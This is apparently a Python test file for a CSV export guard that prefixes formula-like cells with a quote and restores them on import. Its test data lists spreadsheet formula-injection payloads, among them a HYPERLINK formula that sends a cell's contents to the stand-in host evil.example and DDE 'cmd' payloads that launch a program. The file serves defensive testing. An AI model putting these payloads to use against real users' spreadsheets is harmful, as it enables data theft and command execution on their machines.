"""CSV cells a spreadsheet would run as a formula: made inert on export, restored on import."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.integration.spreadsheet_cells import TRIGGERS, neutralised, restored

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A1",
    "-2+3+cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(attack: str) -> None:
    assert neutralised(attack) == "'" + attack


@pytest.mark.parametrize("plain", ["Amira", "O'Neill", "'quoted'", "", "2024-09-01", "S3"])
def test_ordinary_text_is_left_alone(plain: str) -> None:
    assert neutralised(plain) == plain
    assert restored(plain) == plain


def test_a_value_that_already_begins_with_a_quote_and_a_trigger_gets_one_more() -> None:
    assert neutralised("'=1+1") == "''=1+1"
    assert restored("''=1+1") == "'=1+1"


@given(st.text())
def test_every_value_comes_back_from_an_export_as_it_went(value: str) -> None:
    assert restored(neutralised(value)) == value


@given(st.text())
def test_no_exported_cell_begins_with_a_trigger(value: str) -> None:
    assert not neutralised(value).startswith(TRIGGERS)
